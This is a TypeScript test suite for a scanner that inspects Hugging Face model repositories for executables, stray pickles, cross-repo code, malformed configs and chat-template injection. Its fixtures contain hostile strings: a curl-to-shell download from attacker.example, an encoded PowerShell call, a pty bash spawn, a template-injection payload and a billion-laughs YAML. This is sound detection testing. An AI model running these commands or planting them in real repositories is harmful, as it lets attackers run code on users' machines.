/**
 * The repository scanner over Hugging Face snapshots (T67–T70): the committed fixture repos under
 * test/fixtures/hf-repo/ and snapshots built here (executables, pickles next to safetensors, hostile
 * configs and Python files). A benign repo with custom code gets only the medium trust_remote_code notes.
 */
import { copyFileSync, mkdirSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { scanPaths } from '../src/scanners/engine.js';
import type { ScanReport } from '../src/scanners/report-model.js';
import { tempDir } from './support/temp.js';

const FIXTURES = join(import.meta.dirname, 'fixtures', 'hf-repo');
const BENIGN = join(import.meta.dirname, 'fixtures', 'benign');

/** `<file relative to root> <rule> <severity>`, sorted. */
function findings(report: ScanReport, root: string): string[] {
  return report.findings
    .map((f) => `${f.location.path.slice(root.length + 1)} ${f.ruleId} ${f.severity}`)
    .sort();
}

function repo(prefix: string, files: Record<string, string | Uint8Array>): string {
  const t = tempDir(`modelguard-hf-${prefix}-`);
  for (const [name, data] of Object.entries(files)) t.write(name, data);
  return t.dir;
}

const SAFETENSORS = readFileSync(join(FIXTURES, 'benign-plain', 'model.safetensors'));

describe('committed fixture repositories', () => {
  it('benign repo with custom code: only the medium trust_remote_code notes', async () => {
    const root = join(FIXTURES, 'benign-remote-code');
    const report = await scanPaths([root]);
    expect(findings(report, root)).toEqual([
      'configuration_x.py remote-code/trust-remote-code medium',
      'modeling_x.py remote-code/trust-remote-code medium',
    ]);
    const modeling = report.findings.find((f) => f.location.path.endsWith('modeling_x.py'));
    expect(modeling?.message).toContain('config.json auto_map.AutoModel → XModel');
    expect(modeling?.evidence).toContain('imports dataclasses, flash_attn, math, os, torch, transformers');
    expect(report.summary.failed).toBe(false);
    for (const a of report.artifacts) {
      expect(a.verdict, a.path).toBe(a.path.endsWith('.py') ? 'suspicious' : 'safe');
    }
  });

  it('benign repo without custom code: nothing at all', async () => {
    const root = join(FIXTURES, 'benign-plain');
    const report = await scanPaths([root]);
    expect(findings(report, root)).toEqual([]);
  });

  it('malicious repo: cross-repo code, missing code, script, chat template, every module analysed', async () => {
    const root = join(FIXTURES, 'malicious-remote-code');
    const report = await scanPaths([root], { failOn: 'high' });
    const got = findings(report, root);
    for (const want of [
      'config.json hf-repo/cross-repo-code high',
      'config.json hf-repo/missing-code medium',
      'run.sh hf-repo/executable high',
      'tokenizer_config.json chat-template/injection critical',
      'modeling_evil.py remote-code/trust-remote-code medium',
      'modeling_evil.py remote-code/process critical',
      'modeling_evil.py remote-code/obfuscated-exec critical',
      'tokenization_evil.py remote-code/process critical',
      'pipeline_evil.py remote-code/obfuscated-exec critical',
      'variants/t68_socket_shell.py remote-code/network high',
    ]) {
      expect(got, want).toContain(want);
    }
    const trc = report.findings.filter((f) => f.ruleId === 'remote-code/trust-remote-code');
    expect(trc.length).toBe(17);
    const via = (name: string): string => trc.find((f) => f.location.path.endsWith(name))?.message ?? '';
    expect(via('tokenization_evil.py')).toContain(
      'tokenizer_config.json auto_map.AutoTokenizer[0] → EvilTokenizer',
    );
    expect(via('pipeline_evil.py')).toContain('config.json custom_pipelines.evil-task.impl → EvilPipeline');
    expect(via('t68_os_system.py')).toContain('Python code in the model folder');
    expect(report.findings.find((f) => f.ruleId === 'hf-repo/cross-repo-code')?.message).toContain(
      'attacker/payload-repo',
    );
    const proc = report.findings.find(
      (f) => f.ruleId === 'remote-code/process' && f.location.path.endsWith('modeling_evil.py'),
    );
    expect(proc?.evidence).toBe(
      'modeling_evil.py:11: _sync("curl -s http://attacker.example/x.sh | sh")  # expect: remote-code/process critical',
    );
    const src = readFileSync(join(root, 'modeling_evil.py'));
    expect(proc?.location.offset).toBe(src.indexOf(Buffer.from('_sync("curl')));
    expect(report.summary.failed).toBe(true);
  });

  it('NeMo config folder and MLflow model folder', async () => {
    const nemo = join(FIXTURES, 'nemo-config');
    expect(findings(await scanPaths([nemo]), nemo)).toEqual([
      'model_config.yaml configs/hydra-target critical',
      'model_config.yaml configs/hydra-target medium',
    ]);
    const mlflow = join(FIXTURES, 'mlflow-model');
    const got = findings(await scanPaths([mlflow]), mlflow);
    expect(got).toContain('MLmodel configs/mlflow-pyfunc medium');
    expect(got).toContain('code/custom_model.py remote-code/trust-remote-code medium');
    expect(got).toContain('code/custom_model.py remote-code/process critical');
  });
});

describe('executables and scripts', () => {
  const pe = new Uint8Array(256);
  pe.set([0x4d, 0x5a]);
  pe[0x3c] = 0x80;
  pe.set([0x50, 0x45, 0, 0], 0x80);
  const elf = new Uint8Array(128);
  elf.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  const macho = new Uint8Array(64);
  macho.set([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]);
  const pyc = new Uint8Array([0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 0xe3, 0, 0, 0]);

  it('ELF, PE, Mach-O, scripts and bytecode are high; Python scripts are analysed', async () => {
    const root = repo('exec', {
      'config.json': '{"model_type": "llama"}',
      'bin/helper': elf,
      'tools/setup.exe': pe,
      'libfast.dylib': macho,
      'install.sh': '#!/bin/sh\ncurl -s http://x | sh\n',
      'run.bat': '@echo off\r\npowershell -enc AAAA\r\n',
      '__pycache__/modeling.cpython-311.pyc': pyc,
      'tools/convert': '#!/usr/bin/env python3\nimport os\nos.system("id")\n',
      'convert.py': '#!/usr/bin/env python3\nprint("ok")\n',
      'README.md': 'MZ is not an executable when it is text\n',
    });
    const report = await scanPaths([root], { failOn: 'never' });
    expect(findings(report, root)).toEqual([
      '__pycache__/modeling.cpython-311.pyc hf-repo/executable high',
      'bin/helper hf-repo/executable high',
      'convert.py remote-code/trust-remote-code medium',
      'install.sh hf-repo/executable high',
      'libfast.dylib hf-repo/executable high',
      'run.bat hf-repo/executable high',
      'tools/convert hf-repo/executable high',
      'tools/convert remote-code/process critical',
      'tools/convert remote-code/trust-remote-code medium',
      'tools/setup.exe hf-repo/executable high',
    ]);
    const msg = (p: string): string =>
      report.findings.find((f) => f.location.path.endsWith(p))?.message ?? '';
    expect(msg('bin/helper')).toContain('ELF');
    expect(msg('setup.exe')).toContain('Windows PE');
    expect(msg('libfast.dylib')).toContain('Mach-O');
    expect(msg('install.sh')).toContain('#!/bin/sh');
    expect(msg('.pyc')).toContain('compiled Python bytecode');
  });
});

describe('pickles next to safetensors (T67)', () => {
  const copy = (root: string, from: string, to: string): void => {
    mkdirSync(dirname(join(root, to)), { recursive: true });
    copyFileSync(join(BENIGN, from), join(root, to));
  };

  it('notes each pickle: weights low, Trainer state info (not needed for inference)', async () => {
    const root = repo('t67', { 'config.json': '{"model_type": "llama"}', 'model.safetensors': SAFETENSORS });
    copy(root, 'pytorch_model.bin', 'pytorch_model.bin');
    copy(root, 'optimizer.pt', 'checkpoint-500/optimizer.pt');
    copy(root, 'rng_state.pth', 'checkpoint-500/rng_state.pth');
    copy(root, 'scheduler.pt', 'scheduler.pt');
    copy(root, 'optimizer.pt', 'training_args.bin');
    const report = await scanPaths([root]);
    const notes = findings(report, root).filter((f) => f.includes('pickle-alongside-safetensors'));
    expect(notes).toEqual([
      'checkpoint-500/optimizer.pt hf-repo/pickle-alongside-safetensors info',
      'checkpoint-500/rng_state.pth hf-repo/pickle-alongside-safetensors info',
      'pytorch_model.bin hf-repo/pickle-alongside-safetensors low',
      'scheduler.pt hf-repo/pickle-alongside-safetensors info',
      'training_args.bin hf-repo/pickle-alongside-safetensors info',
    ]);
    const training = report.findings.find(
      (f) =>
        f.location.path.endsWith('training_args.bin') && f.ruleId === 'hf-repo/pickle-alongside-safetensors',
    );
    expect(training?.message).toContain('not needed for inference');
    expect(training?.message).toContain('model.safetensors');
    expect(report.summary.failed).toBe(false);
  });

  it('no note without safetensors', async () => {
    const root = repo('t67none', { 'config.json': '{"model_type": "llama"}' });
    copy(root, 'pytorch_model.bin', 'pytorch_model.bin');
    const report = await scanPaths([root]);
    expect(report.findings.some((f) => f.ruleId === 'hf-repo/pickle-alongside-safetensors')).toBe(false);
  });
});

describe('code references', () => {
  it('resolves modules next to a config in a subfolder, modules.json types and chat_template.jinja', async () => {
    const root = repo('refs', {
      'text_encoder/config.json': JSON.stringify({ auto_map: { AutoModel: 'modeling_enc.Enc' } }),
      'text_encoder/modeling_enc.py': 'import torch\n',
      'modules.json': JSON.stringify([
        { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
        { idx: 1, name: '1', path: '1_Pool', type: 'custom_st.Pool' },
      ]),
      'custom_st.py': 'import torch\n',
      'chat_template.jinja': "{{ ''.__class__.__mro__[1].__subclasses__() }}",
      'chat_template.json': JSON.stringify({
        chat_template: '{% for m in messages %}{{ m.content }}{% endfor %}',
      }),
    });
    const report = await scanPaths([root], { failOn: 'never' });
    const msg = (p: string): string =>
      report.findings.find((f) => f.location.path.endsWith(p) && f.ruleId === 'remote-code/trust-remote-code')
        ?.message ?? '';
    expect(msg('text_encoder/modeling_enc.py')).toContain(
      'text_encoder/config.json auto_map.AutoModel → Enc',
    );
    expect(msg('custom_st.py')).toContain('modules.json modules[1].type → Pool');
    expect(findings(report, root)).toContain('chat_template.jinja chat-template/injection critical');
    expect(findings(report, root).some((f) => f.startsWith('chat_template.json'))).toBe(false);
  });

  it('cross-repository references in tokenizer_config.json and custom_pipelines', async () => {
    const root = repo('cross', {
      'tokenizer_config.json': JSON.stringify({
        auto_map: { AutoTokenizer: ['evil/tok--tokenization.T', null] },
      }),
      'config.json': JSON.stringify({ custom_pipelines: { t: { impl: 'evil/p--pipe.P' } } }),
    });
    const report = await scanPaths([root], { failOn: 'never' });
    expect(findings(report, root)).toEqual([
      'config.json hf-repo/cross-repo-code high',
      'tokenizer_config.json hf-repo/cross-repo-code high',
    ]);
  });

  it('an extracted TorchServe archive folder', async () => {
    const root = repo('mar', {
      'MAR-INF/MANIFEST.json': JSON.stringify({
        model: { handler: 'handler.py', serializedFile: 'model.pt' },
      }),
      'handler.py': 'import pty\npty.spawn("/bin/bash")\n',
    });
    const report = await scanPaths([root], { failOn: 'never' });
    expect(findings(report, root)).toEqual([
      'MAR-INF/MANIFEST.json configs/torchserve-handler medium',
      'handler.py remote-code/process critical',
      'handler.py remote-code/trust-remote-code medium',
    ]);
  });
});

describe('hostile snapshots', () => {
  it('malformed, deeply nested and oversized configs are findings, quickly', async () => {
    const root = repo('badcfg', {
      'config.json': '{"auto_map": {"AutoModel": "modeling_x.X"',
      'a/config.json': `${'['.repeat(2_000_000)}${']'.repeat(2_000_000)}`,
      'b/tokenizer_config.json': `{"pad": "${'x'.repeat(9 << 20)}"}`,
      'c/config.json': '\u0000\u0001\u0002 binary',
    });
    const report = await scanPaths([root], { failOn: 'never' });
    expect(findings(report, root)).toEqual([
      'a/config.json hf-repo/malformed-config medium',
      'b/tokenizer_config.json hf-repo/malformed-config medium',
      'c/config.json hf-repo/malformed-config medium',
      'config.json hf-repo/malformed-config medium',
    ]);
  });

  it('a 5 MB .py, binary garbage named .py and a billion-laughs YAML return typed results', async () => {
    let seed = 11;
    const garbage = new Uint8Array(256 << 10).map(() => {
      seed = (seed * 1103515245 + 12345) >>> 0;
      return seed >>> 24;
    });
    const line = 'hidden = self.dropout(self.proj(hidden)) + residual\n';
    let laughs = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n';
    for (let i = 1; i < 10; i++) {
      const n = String.fromCharCode(97 + i);
      laughs += `${n}: &${n} [${Array(9)
        .fill(`*${String.fromCharCode(96 + i)}`)
        .join(',')}]\n`;
    }
    const root = repo('hostile', {
      'config.json': JSON.stringify({ auto_map: { AutoModel: 'modeling_big.M' } }),
      'modeling_big.py': line.repeat(Math.ceil((5 << 20) / line.length)),
      'modeling_garbage.py': garbage,
      'hparams.yaml': laughs,
    });
    const report = await scanPaths([root], { failOn: 'never' });
    const got = findings(report, root);
    expect(got).toContain('modeling_big.py remote-code/unanalysable medium');
    expect(got).toContain('modeling_garbage.py remote-code/unanalysable medium');
    expect(got).toContain('hparams.yaml configs/malformed medium');
    expect(report.artifacts.every((a) => a.verdict !== 'error')).toBe(true);
  });
});
